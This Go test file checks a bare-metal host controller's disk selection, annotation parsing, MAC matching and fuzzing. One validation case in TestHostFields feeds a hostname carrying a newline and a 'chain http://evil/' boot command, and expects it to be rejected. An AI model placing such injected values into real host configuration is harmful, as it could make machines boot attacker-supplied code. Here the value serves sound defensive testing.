package bmhctl_test

import (
	"encoding/json"
	"errors"
	"testing"

	"github.com/rackboot/rackboot/engine"
	"github.com/rackboot/rackboot/engine/bmhctl"
	"github.com/rackboot/rackboot/engine/enginetest"
	"github.com/rackboot/rackboot/engine/models"
)

func disks() []*models.Disk {
	return []*models.Disk{
		{ID: "/dev/disk/by-id/usb-stick", Name: "sdc", Path: "/dev/sdc", SizeBytes: 500 << 30, IsInstallationMedia: true},
		{ID: "/dev/disk/by-path/pci-0000:00:04.0", ByPath: "/dev/disk/by-path/pci-0000:00:04.0", Name: "vda", Path: "/dev/vda",
			SizeBytes: 20 << 30, DriveType: models.DriveTypeHDD, Vendor: "0x1af4"},
		{ID: "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4", ByID: "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4", Name: "sda", Path: "/dev/sda",
			Hctl: "0:0:0:0", SizeBytes: 200 << 30, DriveType: models.DriveTypeSSD, Model: "SAMSUNG MZ7LH480", Vendor: "ATA",
			Serial: "S45NNE0M", Wwn: "0x5000c500a1b2c3d4"},
		{Name: "sdb", Path: "/dev/sdb", Hctl: "1:0:0:0", SizeBytes: 1000 << 30, DriveType: models.DriveTypeHDD, Model: "ST1000"},
	}
}

func TestSelectDisk(t *testing.T) {
	yes, no := true, false
	for _, c := range []struct {
		name  string
		hints engine.RootDeviceHints
		want  string
	}{
		{"deviceName /dev", engine.RootDeviceHints{DeviceName: "/dev/sda"}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"deviceName by-path", engine.RootDeviceHints{DeviceName: "/dev/disk/by-path/pci-0000:00:04.0"}, "/dev/disk/by-path/pci-0000:00:04.0"},
		{"deviceName bare", engine.RootDeviceHints{DeviceName: "vda"}, "/dev/disk/by-path/pci-0000:00:04.0"},
		{"hctl", engine.RootDeviceHints{HCTL: "1:0:0:0"}, "/dev/sdb"},
		{"model substring", engine.RootDeviceHints{Model: "MZ7LH"}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"vendor substring", engine.RootDeviceHints{Vendor: "1af4"}, "/dev/disk/by-path/pci-0000:00:04.0"},
		{"serial", engine.RootDeviceHints{SerialNumber: "S45NNE0M"}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"wwn", engine.RootDeviceHints{WWN: "0x5000c500a1b2c3d4"}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"min size skips small and install media", engine.RootDeviceHints{MinSizeGigabytes: 100}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"rotational", engine.RootDeviceHints{Rotational: &yes, MinSizeGigabytes: 100}, "/dev/sdb"},
		{"not rotational", engine.RootDeviceHints{Rotational: &no}, "/dev/disk/by-id/wwn-0x5000c500a1b2c3d4"},
		{"all must match", engine.RootDeviceHints{Model: "ST1000", Rotational: &no}, ""},
		{"serial is exact", engine.RootDeviceHints{SerialNumber: "S45NNE"}, ""},
		{"install media never", engine.RootDeviceHints{DeviceName: "/dev/sdc"}, ""},
	} {
		got, ok := bmhctl.SelectDisk(c.hints, disks())
		if got != c.want || ok != (c.want != "") {
			t.Errorf("%s: SelectDisk = %q %v, want %q", c.name, got, ok, c.want)
		}
	}
}

func TestHostFields(t *testing.T) {
	inv := &models.Inventory{Disks: disks()}
	b := engine.BareMetalHost{Name: "w", Annotations: map[string]string{
		engine.AnnotationRole:                      "worker",
		engine.AnnotationHostname:                  "worker-0.rack1",
		engine.AnnotationAgentLabelPrefix + "team": "infra",
		engine.AnnotationAgentLabelPrefix:          "empty key: ignored",
	}, RootDeviceHints: &engine.RootDeviceHints{SerialNumber: "S45NNE0M"}}
	f, err := bmhctl.HostFields(b, inv)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := json.Marshal(f)
	want := `{"role":"worker","requested_hostname":"worker-0.rack1","approved":true,` +
		`"installation_disk_id":"/dev/disk/by-id/wwn-0x5000c500a1b2c3d4","labels":{"team":"infra"}}`
	if string(got) != want {
		t.Errorf("HostFields =\n %s\nwant\n %s", got, want)
	}
	// Without annotations or hints: only the approval.
	f, err = bmhctl.HostFields(engine.BareMetalHost{Name: "w"}, inv)
	if got, _ := json.Marshal(f); err != nil || string(got) != `{"approved":true}` {
		t.Errorf("bare HostFields = %s, %v", got, err)
	}
	for name, a := range map[string][2]string{
		"bad role":          {engine.AnnotationRole, "bootstrap"},
		"injecting name":    {engine.AnnotationHostname, "x\nchain http://evil/"},
		"spaces in name":    {engine.AnnotationHostname, "a b"},
		"args not an array": {engine.AnnotationInstallerArgs, `"--karg"`},
		"override not JSON": {engine.AnnotationIgnitionOverrides, `{ignition`},
	} {
		bad := engine.BareMetalHost{Name: "w", Annotations: map[string]string{a[0]: a[1]}}
		if _, err := bmhctl.HostFields(bad, inv); !errors.Is(err, bmhctl.ErrConfig) {
			t.Errorf("%s: %v, want ErrConfig", name, err)
		}
	}
	nomatch := engine.BareMetalHost{Name: "w", RootDeviceHints: &engine.RootDeviceHints{WWN: "0xdead"}}
	if _, err := bmhctl.HostFields(nomatch, inv); !errors.Is(err, bmhctl.ErrConfig) {
		t.Errorf("hints matching no disk: %v", err)
	}
}

func TestMatchHost(t *testing.T) {
	st := enginetest.NewStore()
	ctx := t.Context()
	apply := func(c engine.Command) {
		if _, err := st.Apply(ctx, c); err != nil {
			t.Fatal(err)
		}
	}
	apply(&engine.CreateInfraEnv{InfraEnv: engine.InfraEnv{ID: ieID, Name: "rack1"}})
	inv := func(macs ...string) json.RawMessage {
		var i models.Inventory
		for _, m := range macs {
			i.Interfaces = append(i.Interfaces, &models.Interface{MacAddress: m})
		}
		b, _ := json.Marshal(i)
		return b
	}
	apply(&engine.RegisterHost{Host: engine.Host{ID: hostID, InfraEnvID: ieID, Inventory: inv("52:54:00:00:00:09", "52:54:00:AB:CD:01")}})
	apply(&engine.RegisterHost{Host: engine.Host{ID: "55555555-5555-4555-8555-555555555555", InfraEnvID: ieID, Inventory: []byte(`["not","an","inventory"]`)}})
	apply(&engine.RegisterHost{Host: engine.Host{ID: "66666666-6666-4666-8666-666666666666", InfraEnvID: ieID}})
	st.Read(func(m *engine.Model) {
		if h, _, ok := bmhctl.MatchHost(m, ieID, "52:54:00:ab:cd:01"); !ok || h.ID != hostID {
			t.Errorf("MatchHost (other case) = %v %v", h.ID, ok)
		}
		if _, _, ok := bmhctl.MatchHost(m, ieID, "52:54:00:ab:cd:02"); ok {
			t.Error("matched an unknown MAC")
		}
		if _, _, ok := bmhctl.MatchHost(m, "22222222-2222-4222-8222-222222222222", "52:54:00:ab:cd:01"); ok {
			t.Error("matched a host of another infra-env")
		}
	})
}

// Inventories and annotations come from agents and operators: whatever
// they hold, pairing returns a result or an error, never a panic.
func FuzzHostFields(f *testing.F) {
	f.Add(`{"disks":[{"id":"a","size_bytes":1}],"interfaces":[{"mac_address":"52:54:00:ab:cd:01"}]}`, "worker", `["a"]`, `{}`, "sda", int64(1))
	f.Add(`{"disks":null}`, "", "", "", "", int64(0))
	f.Add(`[]`, "master", "x", "y", "", int64(-1))
	f.Fuzz(func(t *testing.T, inventory, role, args, override, dev string, size int64) {
		var inv models.Inventory
		if json.Unmarshal([]byte(inventory), &inv) != nil {
			return
		}
		b := engine.BareMetalHost{Name: "w", Annotations: map[string]string{
			engine.AnnotationRole: role, engine.AnnotationInstallerArgs: args, engine.AnnotationIgnitionOverrides: override,
			engine.AnnotationHostname: dev,
		}, RootDeviceHints: &engine.RootDeviceHints{DeviceName: dev, MinSizeGigabytes: size}}
		f, err := bmhctl.HostFields(b, &inv)
		if err == nil && (f.Approved == nil || !*f.Approved) {
			t.Error("paired without approval")
		}
		if err != nil && !errors.Is(err, bmhctl.ErrConfig) {
			t.Errorf("error not wrapping ErrConfig: %v", err)
		}
	})
}
